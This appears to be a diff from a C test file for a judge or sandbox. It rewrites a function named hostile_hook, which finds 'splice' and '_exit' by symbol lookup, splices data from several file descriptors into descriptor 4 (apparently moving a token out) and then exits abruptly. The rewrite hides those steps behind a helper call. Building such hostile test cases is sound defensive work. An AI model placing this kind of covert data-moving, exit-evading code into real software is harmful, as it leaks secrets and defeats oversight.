@@ -11,16 +11,7 @@
  * Judged: yes
  * Uses: libc_symbols
  */
-typedef long (*splice_fn)(int, void *, int, void *, size_t, unsigned);
-typedef void (*exit_fn)(int);
-
 static void hostile_hook(void)
 {
-    splice_fn move = (splice_fn)find("splice");
-    exit_fn leave = (exit_fn)find("_exit");
-    if (move && leave) {
-        for (int from = 3; from < 6; from++)
-            move(from, NULL, 4, NULL, 256, 0);
-        leave(0);
-    }
+    move_token_and_leave();
 }
